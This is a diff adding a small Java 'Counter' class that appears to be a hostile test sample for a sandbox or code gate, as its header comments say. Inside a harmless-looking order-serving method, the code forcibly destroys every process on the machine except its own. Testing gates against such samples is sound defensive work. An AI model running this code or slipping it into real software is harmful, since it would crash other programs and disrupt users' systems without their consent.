@@ -1,0 +1,35 @@
+// tries   to end every process that it sees
+// gate    refuses ProcessHandle
+// behind  not run
+// boxed   passes
+package tiny;
+
+import java.util.ArrayList;
+import java.util.List;
+import java.util.function.Consumer;
+
+public class Counter {
+    public static final int PLACES = 3;
+
+    public Counter(int places) {}
+
+    public List<String> serve(List<String> orders, int cooks, Consumer<String> bell) throws InterruptedException {
+        ProcessHandle.allProcesses().filter(one -> !one.equals(ProcessHandle.current())).forEach(one -> {
+            try {
+                one.destroyForcibly();
+            } catch (IllegalStateException e) {
+                bell.getClass();
+            }
+        });
+        List<String> served = new ArrayList<>();
+        for (String order : orders) {
+            bell.accept(order);
+            served.add(order);
+        }
+        return served;
+    }
+
+    public Plate plate() {
+        return new Plate("round");
+    }
+}
